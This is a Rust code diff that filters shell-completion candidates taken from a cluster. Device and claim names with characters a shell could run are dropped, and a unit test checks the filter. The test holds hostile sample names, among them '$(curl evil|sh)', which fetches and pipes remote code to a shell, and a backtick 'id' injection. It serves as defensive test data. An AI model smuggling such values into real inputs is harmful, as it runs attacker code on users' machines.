@@ -49,7 +49,7 @@ pub(super) fn pods_and_claims(typed: &OsStr) -> Vec<CompletionCandidate> {
         let (client, namespace) = cluster.connect().await?;
         Ok(explainable(&client, &namespace).await)
     });
-    fitting(typed, names)
+    offered(typed, names)
 }
 
 async fn explainable(client: &Client, namespace: &str) -> BTreeSet<String> {
@@ -82,7 +82,15 @@ fn of_devices(typed: &OsStr, names: impl Fn(&DeviceRow) -> Vec<String>) -> Vec<C
         };
         Ok(table.devices.iter().flat_map(&names).collect())
     });
-    fitting(typed, found)
+    offered(typed, found)
+}
+
+/// Returns the names from the cluster that begin with the typed text. A shell could run others as a command: companions and other drivers
+/// choose the names of devices and kinds.
+fn offered(typed: &OsStr, mut names: BTreeSet<String>) -> Vec<CompletionCandidate> {
+    let is_harmless = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '/' | '-');
+    names.retain(|name| name.chars().all(is_harmless));
+    fitting(typed, names)
 }
 
 /// The defaults of all flags: the completion engine does not pass the values of other flags.
@@ -110,6 +118,14 @@ mod tests {
 
     use super::*;
     use crate::cli::tool::tests::Server;
+
+    #[test]
+    fn names_with_characters_of_a_shell_are_not_offered() {
+        let names = ["node-a/cam_1.x", "$(curl evil|sh)", "a\nb", "a b", "`id`"];
+        let candidates = offered(OsStr::new(""), names.map(str::to_owned).into());
+        let values: Vec<&OsStr> = candidates.iter().map(CompletionCandidate::get_value).collect();
+        assert_eq!(values, ["node-a/cam_1.x"]);
+    }
 
     #[tokio::test]
     async fn claims_of_each_mode_are_offered() {
